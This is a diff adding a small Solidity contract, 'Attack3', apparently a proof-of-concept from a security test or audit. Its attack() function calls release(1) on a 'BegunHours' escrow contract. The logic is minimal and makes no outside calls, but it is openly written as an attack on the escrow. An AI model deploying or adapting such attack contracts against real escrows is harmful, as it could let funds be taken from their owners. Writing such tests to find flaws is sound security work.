@@ -1,0 +1,20 @@
+// SPDX-License-Identifier: MIT
+pragma solidity 0.8.37;
+
+import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
+import {IEscrow} from "@argosy/interfaces/IEscrow.sol";
+import {BegunHours} from "./BegunHours.sol";
+
+contract Attack3 {
+    BegunHours private immutable escrow;
+    address private immutable token;
+
+    constructor(BegunHours escrow_, address token_) {
+        escrow = escrow_;
+        token = token_;
+    }
+
+    function attack() external {
+        escrow.release(1);
+    }
+}
